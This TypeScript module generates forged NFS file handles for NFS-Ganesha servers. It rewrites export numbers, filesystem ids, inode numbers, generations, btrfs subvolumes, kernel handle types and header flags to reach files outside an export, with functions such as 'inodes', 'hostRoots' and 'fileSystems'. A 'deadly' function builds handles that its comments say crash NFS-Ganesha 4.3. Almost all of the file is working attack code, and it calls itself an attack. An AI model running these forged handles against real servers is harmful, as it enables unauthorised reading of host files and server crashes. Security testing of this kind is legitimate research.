/**
 * File handles that no server gave out, made from some that it did. Pure: bytes in, bytes out.
 *
 * NFS-Ganesha's handle of a file of the host is `43 <flags> <export id:2> <length> <fsid type | handle bits> <fsid…>
 * <kernel handle type> <kernel handle…>` and nothing signs it. Of other layouts (CephFS) only the first five bytes are known,
 * so they are flipped, spliced and counted through.
 */

export interface Forged {
  /** For whoever reads the line: `inode 128, generation 0`. */
  readonly what: string
  readonly bytes: Buffer
}

/** Bytes of each kind of fsid that NFS-Ganesha knows (its `fsid_type`). */
const fsidBytes: Readonly<Record<number, number>> = { 0: 0, 1: 8, 2: 8, 3: 16, 4: 8, 5: 8 }
const headerBytes = 5
/** The lower bits of the sixth byte; above it: one that says that there is only an fsid, two for the kernel type's size. */
const fsidMask = 0x1f
const onlyFsid = 0x20
const kernelTypeBits = 0xc0
/** RFC 7530: no handle is longer. */
export const maxHandleBytes = 128

interface HostHandle {
  readonly flags: number
  readonly fsid: Buffer
  readonly kernelType: number
  readonly kernel: Buffer
}

/** Takes a handle of a file of the host apart; null for other layouts. */
export function readHostHandle(handle: Buffer): HostHandle | null {
  if (handle.length < 20 || handle[0] !== 0x43 || handle[4] !== handle.length - headerBytes) return null
  const flags = handle[headerBytes] ?? 0
  const length = fsidBytes[flags & fsidMask]
  if (length === undefined || (flags & kernelTypeBits) !== 0x40) return null
  const fsidEnd = headerBytes + 1 + length
  const kernelType = handle[fsidEnd] ?? 0
  const kernel = handle.subarray(fsidEnd + 1)
  const known = kernelLayouts[kernelType]
  if (known === undefined || kernel.length < known.generation + 4) return null
  return { flags, fsid: handle.subarray(headerBytes + 1, fsidEnd), kernelType, kernel }
}

/** Where a kernel handle keeps what it names: XFS with 64-bit inodes, ext4 and XFS with 32-bit ones, btrfs. */
const kernelLayouts: Readonly<
  Record<
    number,
    { readonly inodeBytes: 4 | 8; readonly generation: number; readonly subvolume?: number } | undefined
  >
> = {
  0x81: { inodeBytes: 8, generation: 8 },
  0x82: { inodeBytes: 8, generation: 8 },
  0x01: { inodeBytes: 4, generation: 4 },
  0x02: { inodeBytes: 4, generation: 4 },
  0x4d: { inodeBytes: 8, generation: 16, subvolume: 8 },
  0x4e: { inodeBytes: 8, generation: 16, subvolume: 8 },
}

/** `43 …` around a body; `length` lies when it is given. */
const wrapped = (like: Buffer, body: Buffer, length = body.length): Buffer =>
  Buffer.concat([like.subarray(0, headerBytes - 1), Buffer.from([length & 0xff]), body])

const hostHandle = (like: Buffer, { flags, fsid, kernelType, kernel }: HostHandle): Buffer =>
  wrapped(like, Buffer.concat([Buffer.from([flags]), fsid, Buffer.from([kernelType]), kernel]))

/** The export number in a handle. */
export const exportNumber = (handle: Buffer): number => (handle.length < 4 ? 0 : handle.readUInt16BE(2))

export function withExportNumber(handle: Buffer, number: number): Buffer {
  const copy = Buffer.from(handle)
  copy.writeUInt16BE(number & 0xffff, 2)
  return copy
}

/** Every handle under every export number that exists, its neighbours, none and the last. */
export function exportNumbers(own: Buffer, handles: readonly Forged[]): readonly Forged[] {
  const existing = [own, ...handles.map(({ bytes }) => bytes)].map(exportNumber)
  const numbers = new Set(
    [0, 0xffff, ...existing.flatMap((number) => [number - 1, number, number + 1])].filter((n) => n >= 0),
  )
  const bases = [{ what: 'own', bytes: own }, ...handles]
  return bases.flatMap(({ what, bytes }) =>
    [...numbers]
      .filter((number) => number !== exportNumber(bytes))
      .map((number) => ({ what: `${what}, export id ${number}`, bytes: withExportNumber(bytes, number) })),
  )
}

/** Own handles in other file systems: theirs, none, halves and ends exchanged, device numbers of theirs. */
export function fileSystems(
  own: Buffer,
  others: readonly Forged[],
  devices: readonly { readonly major: number; readonly minor: number }[],
): readonly Forged[] {
  const mine = readHostHandle(own)
  if (mine === null) return []
  const made: Forged[] = []
  const add = (what: string, fsid: Buffer, type: number, body: Pick<HostHandle, 'kernelType' | 'kernel'>) =>
    made.push({
      what: `fsid ${what}`,
      bytes: hostHandle(own, { ...body, fsid, flags: (mine.flags & ~fsidMask) | type }),
    })
  for (const { what, bytes } of others) {
    const theirs = readHostHandle(bytes)
    if (theirs === null) continue
    const type = theirs.flags & fsidMask
    const { fsid } = theirs
    const variants: readonly (readonly [string, Buffer])[] = [
      ['', fsid],
      [
        ', halves exchanged',
        Buffer.concat([fsid.subarray(fsid.length / 2), fsid.subarray(0, fsid.length / 2)]),
      ],
      [', bytes reversed', Buffer.from(fsid).reverse()],
      [', first half alone', fsid.subarray(0, 8)],
      [', one bit off', Buffer.from(fsid.map((byte, at) => (at === 0 ? byte ^ 1 : byte)))],
    ]
    for (const [variant, changed] of variants) {
      for (const body of [mine, theirs]) add(`of ${what}${variant}`, changed, type, body)
    }
    // Whatever the type says: the same bytes read in another way.
    for (const other of Object.keys(fsidBytes).map(Number)) {
      add(`of ${what} as type ${other}`, sized(fsid, fsidBytes[other] ?? 0), other, theirs)
    }
  }
  for (const { major, minor } of devices) {
    for (const [first, second] of [
      [major, minor],
      [minor, major],
      [major, minor + 1],
      [major, Math.max(0, minor - 1)],
      [0, minor],
    ] as const) {
      for (const wide of [false, true]) {
        for (const big of [false, true]) {
          const fsid = numbers(first, second, wide, big)
          for (const type of wide ? [3] : [1, 2, 4, 5]) {
            const bodies = [mine, ...others.flatMap(({ bytes }) => readHostHandle(bytes) ?? [])]
            for (const body of bodies.slice(0, 2))
              add(`device ${first}:${second}, type ${type}`, fsid, type, body)
          }
        }
      }
    }
  }
  for (const fill of [0, 0xff]) {
    for (const type of Object.keys(fsidBytes).map(Number)) {
      add(`all ${fill}, type ${type}`, Buffer.alloc(fsidBytes[type] ?? 0, fill), type, mine)
    }
  }
  return made
}

const sized = (bytes: Buffer, length: number): Buffer => {
  const made = Buffer.alloc(length)
  bytes.copy(made)
  return made
}

function numbers(first: number, second: number, wide: boolean, big: boolean): Buffer {
  const bytes = Buffer.alloc(wide ? 16 : 8)
  if (wide && big) {
    bytes.writeBigUInt64BE(BigInt(first), 0)
    bytes.writeBigUInt64BE(BigInt(second), 8)
  } else if (wide) {
    bytes.writeBigUInt64LE(BigInt(first), 0)
    bytes.writeBigUInt64LE(BigInt(second), 8)
  } else if (big) {
    bytes.writeUInt32BE(first, 0)
    bytes.writeUInt32BE(second, 4)
  } else {
    bytes.writeUInt32LE(first, 0)
    bytes.writeUInt32LE(second, 4)
  }
  return bytes
}

/** Inodes where file systems keep roots and what is behind them, those of `others`, and the small numbers. */
const roots = [2, 5, 64, 96, 128, 256, 257, 1024]
const smallNumbers = Array.from({ length: 300 }, (_, number) => number)

/** Own handles with other inodes, subvolumes and generations: 0 (which some file systems don't compare), theirs, any. */
export function inodes(own: Buffer, others: readonly Forged[], random: () => number): readonly Forged[] {
  const mine = readHostHandle(own)
  const layout = mine === null ? undefined : kernelLayouts[mine.kernelType]
  if (mine === null || layout === undefined) return []
  const theirs = others.flatMap(({ bytes }) => readHostHandle(bytes) ?? [])
  const alike = theirs.filter(({ kernelType }) => kernelLayouts[kernelType]?.generation === layout.generation)
  const read = (kernel: Buffer, at: number, bytes: number): bigint =>
    bytes === 8 ? kernel.readBigUInt64LE(at) : BigInt(kernel.readUInt32LE(at))
  const inodesOf = alike.map(({ kernel }) => read(kernel, 0, layout.inodeBytes))
  const generations = [0, random(), ...alike.map(({ kernel }) => kernel.readUInt32LE(layout.generation))]
  const made: Forged[] = []
  const add = (inode: bigint, generation: number, subvolume?: bigint) => {
    const kernel = Buffer.from(mine.kernel)
    if (layout.inodeBytes === 8) kernel.writeBigUInt64LE(inode, 0)
    else kernel.writeUInt32LE(Number(inode & 0xffff_ffffn), 0)
    kernel.writeUInt32LE(generation >>> 0, layout.generation)
    if (subvolume !== undefined && layout.subvolume !== undefined)
      kernel.writeBigUInt64LE(subvolume, layout.subvolume)
    const below = subvolume === undefined ? '' : `, subvolume ${subvolume}`
    made.push({
      what: `inode ${inode}${below}, generation ${generation}`,
      bytes: hostHandle(own, { ...mine, kernel }),
    })
  }
  // What is known of others comes first, guesses follow.
  if (layout.subvolume !== undefined) {
    const at = layout.subvolume
    const seen = new Set(alike.map(({ kernel }) => kernel.readBigUInt64LE(at)))
    for (const subvolume of seen) for (const inode of new Set(inodesOf)) add(inode, 0, subvolume)
    const first = [...seen].reduce((least, one) => (one < least ? one : least), 256n)
    for (const subvolume of [5n, ...Array.from({ length: 64 }, (_, step) => first + BigInt(step))])
      if (!seen.has(subvolume)) add(256n, 0, subvolume)
  }
  for (const inode of new Set([...inodesOf, ...roots.map(BigInt)])) {
    for (const generation of new Set(generations)) add(inode, generation)
  }
  for (const inode of smallNumbers) add(BigInt(inode), 0)
  return made
}

/** The roots that file systems have, in the words of ext4, XFS and btrfs. */
const kernelRoots: readonly (readonly [what: string, kernelType: number, kernel: Buffer])[] = [
  ...[2, 128, 256, 96, 64, 5].map((inode) => {
    const kernel = Buffer.alloc(8)
    kernel.writeUInt32LE(inode, 0)
    return [`inode ${inode}`, 0x01, kernel] as const
  }),
  ...[2, 128].map((inode) => {
    const kernel = Buffer.alloc(12)
    kernel.writeBigUInt64LE(BigInt(inode), 0)
    return [`inode ${inode}`, 0x81, kernel] as const
  }),
  ...[5n, 256n, 257n].map((subvolume) => {
    const kernel = Buffer.alloc(20)
    kernel.writeBigUInt64LE(256n, 0)
    kernel.writeBigUInt64LE(subvolume, 8)
    return [`subvolume ${subvolume}`, 0x4d, kernel] as const
  }),
]

/** Roots of the host's file systems under the own export, and the own root in the other forms that the kernel takes. */
export function hostRoots(
  own: Buffer,
  fsids: readonly bigint[],
  devices: readonly { readonly major: number; readonly minor: number }[],
): readonly Forged[] {
  const mine = readHostHandle(own)
  if (mine === null) return []
  const systems: [string, number, Buffer][] = [['own', mine.flags & fsidMask, mine.fsid]]
  for (const fsid of fsids) {
    const [high, low] = [Number(fsid >> 32n), Number(fsid & 0xffff_ffffn)]
    for (const [first, second] of [
      [high, low],
      [low, high],
    ] as const) {
      for (const type of [4, 5, 1])
        systems.push([`fsid ${fsid.toString(16)}`, type, numbers(first, second, false, false)])
    }
  }
  for (const { major, minor } of devices)
    systems.push([`device ${major}:${minor}`, 5, numbers(major, minor, false, false)])
  return systems.flatMap(([system, type, fsid]) =>
    kernelRoots.map(([root, kernelType, kernel]) => ({
      what: `${system}, ${root} as type ${kernelType}`,
      bytes: hostHandle(own, { flags: (mine.flags & ~fsidMask) | type, fsid, kernelType, kernel }),
    })),
  )
}

/** Every type that a kernel handle can have, on own and others' bodies. */
export function kernelTypes(own: Buffer, others: readonly Forged[]): readonly Forged[] {
  return [{ what: 'own', bytes: own }, ...others.slice(0, 1)].flatMap(({ what, bytes }) => {
    const handle = readHostHandle(bytes)
    if (handle === null) return []
    return Array.from({ length: 256 }, (_, kernelType) => ({
      what: `${what}, kernel type ${kernelType}`,
      bytes: withExportNumber(hostHandle(bytes, { ...handle, kernelType }), exportNumber(own)),
    }))
  })
}

/**
 * All 256 values of the byte of flags and fsid types with lengths that fit one or another reading, and all lengths up to 0x40
 * with the flags that mean something. What {@link isDeadly} is left out.
 */
export function flagsAndLengths(own: Buffer, others: readonly Forged[]): readonly Forged[] {
  const mine = readHostHandle(own)
  if (mine === null) return []
  const made: Forged[] = []
  const bodies = [{ what: 'own', bytes: own }, ...others.slice(0, 1)]
  for (const { what, bytes } of bodies) {
    const add = (flags: number, length: number) => {
      const body = sized(bytes.subarray(headerBytes), length)
      if (length > 0) body[0] = flags
      const forged = withExportNumber(wrapped(own, body), exportNumber(own))
      if (!isDeadly(forged) && !isOnlyFsid(forged))
        made.push({ what: `${what}, flags ${hex(flags)}, length ${hex(length)}`, bytes: forged })
    }
    const whole = bytes.length - headerBytes
    for (let flags = 0; flags < 256; flags++) for (const length of [1, 9, 17, whole]) add(flags, length)
    const meaningful = [
      mine.flags,
      mine.flags & ~kernelTypeBits,
      onlyFsid | 3,
      onlyFsid | 5,
      0x83,
      0xc3,
      0xff,
    ]
    for (const flags of meaningful) for (let length = 0; length <= 0x40; length++) add(flags, length)
  }
  return made
}

const hex = (value: number): string => `0x${value.toString(16).padStart(2, '0')}`

/** Says that it carries only an fsid, and does: NFS-Ganesha 4.3 takes such a handle without asking whose file system it is. */
export function isOnlyFsid(handle: Buffer): boolean {
  const flags = handle[headerBytes] ?? 0
  const length = fsidBytes[flags & fsidMask]
  return (flags & onlyFsid) !== 0 && length !== undefined && handle.length === headerBytes + 1 + length
}

/**
 * NFS-Ganesha 4.3 dies of these. Of the host's files: it says that there is only an fsid, and a kernel handle of which there is
 * not a byte; a negative number of bytes is copied then. Of CephFS: snapshot 0, and a file in the directory of snapshots, which
 * its library takes for impossible.
 */
export function isDeadly(handle: Buffer): boolean {
  const snapshot = cephSnapshot(handle)
  if (snapshot !== null) return snapshot === 0n || snapshot === 2n ** 64n - 1n
  return isOnlyFsid(handle) && ((handle[headerBytes] ?? 0) & kernelTypeBits) !== 0
}

/** A handle of CephFS is inode, snapshot and file system, 64 bits each, least byte first. */
const cephBytes = headerBytes + 24
const cephSnapshotAt = headerBytes + 8

/** The snapshot that a handle of CephFS names; null for other layouts. */
function cephSnapshot(handle: Buffer): bigint | null {
  if (handle.length !== cephBytes || handle[4] !== cephBytes - headerBytes) return null
  return handle.readBigUInt64LE(cephSnapshotAt)
}

/** Handles that carry only a file system, own and others', under the own export number. */
export function onlyFsids(own: Buffer, others: readonly Forged[]): readonly Forged[] {
  return [{ what: 'own', bytes: own }, ...others].flatMap(({ what, bytes }) => {
    const handle = readHostHandle(bytes)
    if (handle === null) return []
    const flags = onlyFsid | (handle.flags & fsidMask)
    const body = Buffer.concat([Buffer.from([flags]), handle.fsid])
    return [{ what: `nothing but the fsid of ${what}`, bytes: wrapped(own, body) }]
  })
}

/** Some that kill a server which does not look twice: see {@link isDeadly}. */
export function deadly(own: Buffer): readonly Forged[] {
  if (cephSnapshot(own) !== null) {
    const bytes = Buffer.from(own)
    bytes.writeBigUInt64LE(0n, cephSnapshotAt)
    return [{ what: 'snapshot 0', bytes }]
  }
  const handle = readHostHandle(own)
  if (handle === null) return []
  return [0x40, 0x80, 0xc0].map((bits) => {
    const flags = onlyFsid | bits | (handle.flags & fsidMask)
    const body = Buffer.concat([Buffer.from([flags]), handle.fsid])
    return { what: `flags ${hex(flags)}, length ${hex(body.length)}`, bytes: wrapped(own, body) }
  })
}

/** Cut off after each byte, and longer than they say, up to what no handle may have. */
export function cutAndStretched(own: Buffer, others: readonly Forged[]): readonly Forged[] {
  const bases = [{ what: 'own', bytes: own }, ...others.slice(0, 2)]
  return bases.flatMap(({ what, bytes }) => {
    const body = withExportNumber(bytes, exportNumber(own))
    const cut = Array.from({ length: bytes.length }, (_, length) => ({
      what: `${what}, cut to ${length}`,
      bytes: body.subarray(0, length),
    }))
    const stretched = [1, 2, 4, 8, 20, maxHandleBytes - bytes.length, maxHandleBytes - bytes.length + 1, 400]
      .filter((more) => more > 0)
      .flatMap((more) =>
        [0, 0xff].map((fill) => ({
          what: `${what}, ${more} bytes longer`,
          bytes: Buffer.concat([body, Buffer.alloc(more, fill)]),
        })),
      )
    return [...cut, ...stretched].filter(({ bytes: made }) => !isDeadly(made) && !isOnlyFsid(made))
  })
}

/** Other versions, and every bit of the flags in front, one of which asks a data server in place of an export. */
export function fronts(own: Buffer, others: readonly Forged[]): readonly Forged[] {
  const numbered = new Set([own, ...others.map(({ bytes }) => bytes)].map(exportNumber))
  const bases = [{ what: 'own', bytes: own }, ...others.slice(0, 2)]
  return bases.flatMap(({ what, bytes }) => {
    const made: Forged[] = []
    for (let value = 0; value < 256; value++) {
      const version = Buffer.from(bytes)
      version[0] = value
      made.push({ what: `${what}, version ${hex(value)}`, bytes: version })
      const flags = Buffer.from(bytes)
      flags[1] = value
      made.push({ what: `${what}, front flags ${hex(value)}`, bytes: flags })
    }
    for (const number of [0, ...numbered]) {
      const dataServer = Buffer.from(withExportNumber(bytes, number))
      dataServer[1] = 1
      made.push({ what: `${what}, data server ${number}`, bytes: dataServer })
    }
    return made
  })
}

/** Every bit turned, and joined with others' at every byte; whatever the layout is. */
export function bitsAndJoints(own: Buffer, others: readonly Forged[]): readonly Forged[] {
  const made: Forged[] = []
  for (let at = 0; at < own.length; at++) {
    for (let bit = 0; bit < 8; bit++) {
      const turned = Buffer.from(own)
      turned[at] = (turned[at] ?? 0) ^ (1 << bit)
      made.push({ what: `bit ${bit} of byte ${at} turned`, bytes: turned })
    }
  }
  for (const { what, bytes } of others) {
    for (let at = 1; at < Math.max(own.length, bytes.length); at++) {
      made.push({
        what: `own to byte ${at}, then ${what}`,
        bytes: Buffer.concat([own.subarray(0, at), bytes.subarray(at)]),
      })
      made.push({
        what: `${what} to byte ${at}, then own`,
        bytes: Buffer.concat([bytes.subarray(0, at), own.subarray(at)]),
      })
    }
  }
  return made.filter(({ bytes }) => !isDeadly(bytes) && !isOnlyFsid(bytes))
}

/** Small numbers in every word, in both byte orders: where a layout keeps inode, snapshot or file system. */
export function words(own: Buffer, others: readonly Forged[]): readonly Forged[] {
  const made: Forged[] = []
  for (const { what, bytes } of [{ what: 'own', bytes: own }, ...others.slice(0, 2)]) {
    const base = withExportNumber(bytes, exportNumber(own))
    for (let at = headerBytes; at + 8 <= base.length; at += 4) {
      for (const value of [0n, 1n, 2n, 3n, 4n, 5n, 0x100n, 0x1000n, 2n ** 64n - 1n, 2n ** 64n - 2n]) {
        for (const big of [false, true]) {
          const copy = Buffer.from(base)
          if (big) copy.writeBigUInt64BE(value, at)
          else copy.writeBigUInt64LE(value, at)
          made.push({ what: `${what}, ${value} at byte ${at}`, bytes: copy })
        }
      }
    }
  }
  return made.filter(({ bytes }) => !isDeadly(bytes) && !isOnlyFsid(bytes))
}

/** `count` handles with a few bytes changed at random, some of them taken from others' handles. */
export function scrambled(
  own: Buffer,
  others: readonly Forged[],
  count: number,
  random: () => number,
): readonly Forged[] {
  const below = (limit: number): number => random() % limit
  const made: Forged[] = []
  while (made.length < count) {
    const [base, donor] = [below(others.length + 1), below(others.length + 1)]
    const bytes = Buffer.from(others[base]?.bytes ?? own)
    const from = others[donor]?.bytes ?? own
    const changes = 1 + below(4)
    for (let change = 0; change < changes; change++) {
      const at = below(bytes.length)
      bytes[at] = below(2) === 0 ? below(256) : (from[at % from.length] ?? 0)
    }
    if (isDeadly(bytes) || isOnlyFsid(bytes)) continue
    made.push({ what: `scrambled ${bytes.toString('hex')}`, bytes })
  }
  return made
}

/** Numbers of 32 bits from a seed (mulberry32): the same seed, the same attack. */
export function seeded(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return (mixed ^ (mixed >>> 14)) >>> 0
  }
}
